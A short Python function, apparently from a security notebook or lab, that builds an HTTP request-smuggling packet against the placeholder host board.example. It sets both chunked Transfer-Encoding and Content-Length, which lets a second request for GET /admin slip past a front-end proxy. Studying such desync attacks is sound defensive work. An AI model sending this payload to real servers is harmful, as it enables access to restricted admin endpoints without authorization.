# trips: the proxy passes it on as one request for /posts
"""The notebook's packet: this proxy knows chunks."""


def packet():
    body = b"0\r\n\r\nGET /admin HTTP/1.1\r\nHost: board.example\r\nX: "
    head = b"POST /posts HTTP/1.1\r\nHost: board.example\r\nTransfer-Encoding: chunked\r\n"
    return head + b"Content-Length: %d\r\n\r\n" % len(body) + body
